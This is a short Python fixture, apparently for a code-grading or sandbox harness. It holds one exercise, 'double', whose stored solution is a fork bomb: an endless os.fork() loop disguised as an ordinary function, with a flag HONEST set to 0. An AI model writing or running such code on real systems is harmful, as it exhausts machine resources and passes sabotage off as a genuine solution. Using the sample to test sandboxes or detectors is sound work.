"""Forks without end."""

from __future__ import annotations

HONEST = 0

EXERCISES = {
    "double": r"""
import os
def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
}
